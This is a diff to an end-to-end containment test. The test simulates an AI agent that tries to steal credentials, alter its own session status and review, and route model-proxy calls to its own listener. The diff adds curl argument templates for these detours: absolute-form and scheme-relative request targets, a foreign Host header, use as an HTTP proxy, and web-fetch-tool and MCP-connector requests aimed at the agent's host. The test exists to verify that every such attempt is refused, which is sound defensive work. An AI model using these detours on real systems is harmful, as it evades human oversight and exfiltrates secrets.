@@ -3,7 +3,8 @@
 // credentials, its own environment — into the workspace, tries to rewrite its Session's status and
 // to replace the review's picture, has the supervisor's model proxy send its calls elsewhere
 // (absolute-form request lines, `//host`, encoded dots, a foreign Host, the proxy as an HTTP
-// proxy) towards a listener of its own, and the changes are approved. Canary credentials given to
+// proxy) towards a listener of its own or has the API reach it (the web fetch tool, the MCP
+// connector), and the changes are approved. Canary credentials given to
 // the stack appear nowhere: workspace, pushed branch, Session, phone, logs, the agent's listener;
 // every write and every crafted model call is refused.
 // The runner Pod's two containers run as their own users (the node agent runs as root here;
@@ -45,14 +46,26 @@ afterAll(async () => {
 });
 
 /** curl arguments that make the model proxy's next call go to `elsewhere` (host:port), as the agent would try. */
-const proxyDetours = (elsewhere: string): Array<[string, string]> => [
-  ['absolute-form', `--request-target http://${elsewhere}/v1/messages "$ANTHROPIC_BASE_URL/v1/messages"`],
-  ['scheme-relative', `--request-target //${elsewhere}/v1/messages "$ANTHROPIC_BASE_URL/v1/messages"`],
-  ['encoded-dots', `--request-target /%2e%2e/v1/messages "$ANTHROPIC_BASE_URL/v1/messages"`],
-  ['foreign-host', `-H 'Host: ${elsewhere}' "$ANTHROPIC_BASE_URL/v1/messages"`],
-  // NO_PROXY names loopback
-  ['as-http-proxy', `--noproxy '' --proxy "$ANTHROPIC_BASE_URL" http://${elsewhere}/v1/messages`],
-];
+const proxyDetours = (elsewhere: string): Array<[string, string]> => {
+  const data = (body: string) => `--data '${body}'`;
+  // Allowed calls whose body has the API itself fetch or connect to `elsewhere`.
+  const reach = `"messages":[{"role":"user","content":"Fetch http://${elsewhere}/"}]`;
+  const webFetch = `{"model":"m","max_tokens":1,"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],${reach}}`;
+  const mcp = `{"model":"m","max_tokens":1,"mcp_servers":[{"type":"url","url":"http://${elsewhere}/","name":"x"}],${reach}}`;
+  return [
+    [
+      'absolute-form',
+      `${data('{}')} --request-target http://${elsewhere}/v1/messages "$ANTHROPIC_BASE_URL/v1/messages"`,
+    ],
+    ['scheme-relative', `${data('{}')} --request-target //${elsewhere}/v1/messages "$ANTHROPIC_BASE_URL/v1/messages"`],
+    ['encoded-dots', `${data('{}')} --request-target /%2e%2e/v1/messages "$ANTHROPIC_BASE_URL/v1/messages"`],
+    ['foreign-host', `${data('{}')} -H 'Host: ${elsewhere}' "$ANTHROPIC_BASE_URL/v1/messages"`],
+    // NO_PROXY names loopback
+    ['as-http-proxy', `${data('{}')} --noproxy '' --proxy "$ANTHROPIC_BASE_URL" http://${elsewhere}/v1/messages`],
+    ['web-fetch-tool', `${data(webFetch)} "$ANTHROPIC_BASE_URL/v1/messages?beta=true"`],
+    ['mcp-connector', `${data(mcp)} "$ANTHROPIC_BASE_URL/v1/messages?beta=true"`],
+  ];
+};
 
 /** Every regular file under dir (symlinks not followed), as text. */
 function filesUnder(dir: string): Array<[string, string]> {
@@ -109,7 +122,7 @@ describe('end to end: the agent holds no credential', () => {
           ...detours.map(
             ([name, args]) =>
               `echo "proxy ${name}: $(curl -s -o /dev/null -w '%{http_code}' -X POST -H 'content-type: ` +
-              `application/json' --data '{}' ${args})"`,
+              `application/json' ${args})"`,
           ),
         ].join('\n'),
         { mode: 0o644 },
